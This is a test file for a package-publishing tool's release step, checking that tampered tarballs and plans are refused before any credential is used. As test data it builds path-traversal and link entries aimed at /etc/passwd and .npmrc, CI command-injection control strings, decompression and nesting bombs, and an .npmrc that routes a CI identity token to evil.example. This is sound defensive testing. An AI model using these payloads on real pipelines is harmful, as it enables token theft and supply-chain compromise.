import { readFile, rename, symlink, truncate, unlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

import type { PackedPlan } from "@slipway/core";
import { describe, test, vi } from "vitest";

import { findCredentials, findCredentialsBelow, OUTPUT } from "../fixtures/find-credentials.ts";
import { createFiles, describeTarball, fileOf, writePlan } from "../fixtures/pack-release.ts";
import { runChild } from "../fixtures/run-child.ts";
import { type StartedRelease, startRelease } from "../fixtures/start-release.ts";
import { type ArchiveEntry, createTarball } from "./create-tarball.ts";
import { findRawControls } from "./find-raw-controls.ts";

vi.setConfig({ maxConcurrency: 4 });

const NAME = "@acme/core";
const FILE = fileOf(NAME);
const MEBI = 1024 * 1024;
/** Turns a terminal red, begins a line, and gives the runner a command. */
const CONTROLS = "\u001B[31m\n::warning::pwned\r\u202E\u009B31m";

type Spoil = (release: StartedRelease) => Promise<void>;

interface Attack {
  readonly name: string;
  readonly code: string;
  readonly spoil: Spoil;
}

/** An honest tarball's entries, and what is smuggled in. */
function smuggle(...entries: readonly ArchiveEntry[]): Spoil {
  const files = Object.entries(createFiles(NAME)).map(([path, text]) => ({ path: `package/${path}`, text }));
  return replaceTarball(createTarball([...files, ...entries]));
}

/** Whoever packed wrote the plan as well: the two agree. */
function replaceTarball(bytes: Buffer): Spoil {
  return async ({ packed, plan }) => {
    await writeFile(join(packed, FILE), bytes);
    const tarball = await describeTarball(packed, FILE);
    await writePlan(packed, { ...plan, packages: plan.packages.map((entry) => ({ ...entry, tarball })) });
  };
}

function changeManifest(extra: Readonly<Record<string, unknown>>): Spoil {
  const files = Object.entries(createFiles(NAME, extra)).map(([path, text]) => ({ path: `package/${path}`, text }));
  return replaceTarball(createTarball(files));
}

function changePlan(change: (plan: PackedPlan) => object): Spoil {
  return async ({ packed, plan }) => writePlan(packed, change(plan));
}

function changeEntry(change: (entry: PackedPlan["packages"][number]) => object): Spoil {
  return changePlan((plan) => ({ ...plan, packages: plan.packages.map(change) }));
}

function changeFile(file: string): Spoil {
  return changeEntry((entry) => ({ ...entry, tarball: { ...entry.tarball, file } }));
}

const paths: readonly Attack[] = [
  { name: "a tarball outside the directory", code: "PLAN_UNREADABLE", spoil: changeFile(`../${FILE}`) },
  { name: "a tarball at an absolute path", code: "PLAN_UNREADABLE", spoil: changeFile(`/etc/${FILE}`) },
  {
    name: "a package outside the repository",
    code: "PLAN_UNREADABLE",
    spoil: changeEntry((entry) => ({ ...entry, directory: "packages/../../core" })),
  },
  {
    name: "a tarball that is a link",
    code: "PACKED_FILE_IRREGULAR",
    spoil: async ({ packed, base }) => {
      await rename(join(packed, FILE), join(base, FILE));
      await symlink(join(base, FILE), join(packed, FILE));
    },
  },
  {
    name: "a plan that is a link",
    code: "PACKED_DIRECTORY_UNREADABLE",
    spoil: async ({ packed, base }) => {
      await rename(join(packed, "plan.json"), join(base, "elsewhere.json"));
      await symlink(join(base, "elsewhere.json"), join(packed, "plan.json"));
    },
  },
];

const entries: readonly (readonly [string, ArchiveEntry])[] = [
  ["traversal", { path: "package/../../evil.js" }],
  ["an absolute path", { path: "/etc/cron.d/evil" }],
  ["a path that Windows takes for absolute", { path: String.raw`package/C:\evil.js` }],
  ["a symbolic link", { path: "package/link", type: "SymbolicLink", target: "../../.npmrc" }],
  ["a hard link", { path: "package/link", type: "Link", target: "/etc/passwd" }],
  ["a device", { path: "package/device", type: "CharacterDevice" }],
  ["a second manifest", { path: "package/package.json", text: JSON.stringify({ name: NAME, version: "1.0.0" }) }],
  ["a second manifest by another way", { path: "package/./package.json", text: "{}" }],
  ["a second root directory", { path: "other/package.json", text: JSON.stringify({ name: NAME, version: "1.0.0" }) }],
  ["a name with control characters", { path: `package/${CONTROLS}` }],
];

const archives: readonly Attack[] = entries.map(([name, entry]) => ({
  name: `a tarball with ${name}`,
  code: "PACKED_TARBALL_UNSAFE",
  spoil: smuggle(entry),
}));

const contents: readonly Attack[] = [
  { name: "another name inside", code: "PACKED_MANIFEST_MISMATCH", spoil: changeManifest({ name: "left-pad" }) },
  { name: "another version inside", code: "PACKED_MANIFEST_MISMATCH", spoil: changeManifest({ version: "9.9.9" }) },
  {
    name: "a name inside that is a command",
    code: "PACKED_MANIFEST_MISMATCH",
    spoil: changeManifest({ name: CONTROLS }),
  },
  {
    name: "another registry inside",
    code: "PACKED_REGISTRY_MISMATCH",
    spoil: changeManifest({ publishConfig: { registry: "https://evil.example/" } }),
  },
  {
    name: "a decompression bomb",
    code: "PACKED_TARBALL_OVERSIZED",
    spoil: smuggle({ path: "package/zeros", text: "\0".repeat(96 * MEBI) }),
  },
  {
    name: "a huge manifest",
    code: "PACKED_TARBALL_OVERSIZED",
    spoil: changeManifest({ huge: "x".repeat(5 * MEBI) }),
  },
  {
    name: "a bottomless manifest",
    code: "PACKED_TARBALL_UNREADABLE",
    spoil: replaceTarball(createTarball([{ path: "package/package.json", text: `{"a":${"[".repeat(500_000)}` }])),
  },
  { name: "no archive at all", code: "PACKED_TARBALL_UNREADABLE", spoil: replaceTarball(gzipSync("hello")) },
  {
    name: "a changed byte",
    code: "PACKED_INTEGRITY_MISMATCH",
    spoil: async ({ packed }) => {
      const bytes = await readFile(join(packed, FILE));
      bytes.writeUInt8((bytes.at(-1) ?? 0) ^ 1, bytes.length - 1);
      await writeFile(join(packed, FILE), bytes);
    },
  },
];

const files: readonly Attack[] = [
  {
    name: "an extra tarball",
    code: "PACKED_TARBALL_UNEXPECTED",
    spoil: async ({ packed }) => writeFile(join(packed, "left-pad-1.0.0.tgz"), createTarball([])),
  },
  {
    name: "a tarball whose name is a command",
    code: "PACKED_TARBALL_UNEXPECTED",
    spoil: async ({ packed }) => writeFile(join(packed, `${CONTROLS}.tgz`), ""),
  },
  ...[
    "ledger.ndjson",
    "report.json",
    "report.md",
    "report.json.next",
    "plan.json.next",
    "package.json",
    "plan.json~",
  ].map((file): Attack => ({
    name: `a file that packing does not make, \`${file}\``,
    code: "PACKED_TARBALL_UNEXPECTED",
    spoil: async ({ packed }) => writeFile(join(packed, file), "{}\n"),
  })),
  {
    name: "npm's configuration",
    code: "PACKED_TARBALL_UNEXPECTED",
    spoil: async ({ packed, rehearsal }) => {
      const { host } = new URL(rehearsal.registry);
      const steal = `//evil.example/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`;
      await writeFile(join(packed, ".npmrc"), `proxy=http://evil.example/\n${steal}\n//${host}/:_authToken=x\n`);
    },
  },
  {
    name: "a missing tarball",
    code: "PACKED_TARBALL_MISSING",
    spoil: async ({ packed }) => unlink(join(packed, FILE)),
  },
];

const plans: readonly Attack[] = [
  {
    name: "a foreign package",
    code: "PACKED_PLAN_MISMATCH",
    spoil: changePlan((plan) => ({
      ...plan,
      packages: plan.packages.flatMap((entry) => [
        entry,
        { ...entry, name: "left-pad", tarball: { ...entry.tarball, file: "left-pad-1.0.0.tgz" } },
      ]),
    })),
  },
  { name: "no package", code: "PACKED_PLAN_MISMATCH", spoil: changePlan((plan) => ({ ...plan, packages: [] })) },
  {
    name: "another version",
    code: "PACKED_PLAN_MISMATCH",
    spoil: changeEntry((entry) => ({ ...entry, version: "9.9.9" })),
  },
  {
    name: "another dist-tag",
    code: "PACKED_PLAN_MISMATCH",
    spoil: changeEntry((entry) => ({ ...entry, distTag: "next" })),
  },
  {
    name: "another registry",
    code: "PACKED_REGISTRY_MISMATCH",
    spoil: changePlan((plan) => ({ ...plan, registry: "https://evil.example/" })),
  },
  {
    name: "another commit",
    code: "PACKED_PLAN_MISMATCH",
    spoil: changePlan((plan) => ({ ...plan, commit: "f".repeat(40) })),
  },
  {
    name: "a name that is a command",
    code: "PLAN_UNREADABLE",
    spoil: changeEntry((entry) => ({ ...entry, name: CONTROLS })),
  },
  {
    name: "a bottomless plan",
    code: "PLAN_UNREADABLE",
    spoil: async ({ packed }) => writeFile(join(packed, "plan.json"), `{"a":${"[".repeat(2_000_000)}`),
  },
  {
    name: "a plan deeper than any stack",
    code: "PLAN_UNREADABLE",
    spoil: async ({ packed }) => {
      const depth = 500_000;
      await writeFile(join(packed, "plan.json"), `{"packages":${"[".repeat(depth)}${"]".repeat(depth)}}`);
    },
  },
  {
    name: "a huge plan",
    code: "PACKED_DIRECTORY_UNREADABLE",
    spoil: async ({ packed }) => truncate(join(packed, "plan.json"), 65 * MEBI),
  },
];

describe.concurrent("a packed directory is refused before anything is asked for a credential", () => {
  test.for([...paths, ...archives, ...contents, ...files, ...plans])("$name", async ({ code, spoil }, { expect }) => {
    const release = await startRelease({ [NAME]: [] });
    try {
      const { base, packed, result, plan, rehearsal, environment } = release;
      const trusted = join(base, "trusted-plan.json");
      const packages = plan.packages.map(({ tarball: _tarball, ...entry }) => entry);
      await writeFile(trusted, JSON.stringify({ ...plan, packages }));
      await spoil(release);
      const run = await runChild(["publish", "--from", packed, ...release.arguments, "--plan", trusted, "--json"], {
        directory: base,
        environment,
      });

      expect(rehearsal.requests).toStrictEqual([]);
      expect(run.exitCode, run.stderr).toBeGreaterThan(0);
      expect(codesOf(run.stdout, run.stderr), run.stderr).toContain(code);
      const known = [release.requestToken];
      expect([
        ...findCredentials(OUTPUT, `${run.stdout}\n${run.stderr}`, known),
        ...(await findCredentialsBelow(base, known, (file) => file.endsWith(".npmrc"))),
      ]).toStrictEqual([]);
      const pages = await Promise.all(
        [join(result, "report.md"), join(base, "summary.md")].map(async (file) =>
          readFile(file, "utf8").catch(() => ""),
        ),
      );
      expect(findRawControls("the output", [run.stdout, run.stderr, ...pages].join("\n"))).toStrictEqual([]);
      expect(`${run.stdout}\n${run.stderr}`).not.toMatch(/^\s*::warning::pwned/mu);
    } finally {
      await release.close();
    }
  });
});

/** Of the report's problems, or of the error that there is instead. */
function codesOf(stdout: string, stderr: string): readonly string[] {
  if (stdout === "") return [/^error (?<code>[A-Z_]+):/mu.exec(stderr)?.groups?.["code"] ?? ""];
  const { problems }: { problems: readonly { readonly code: string }[] } = JSON.parse(stdout);
  return problems.map(({ code }) => code);
}
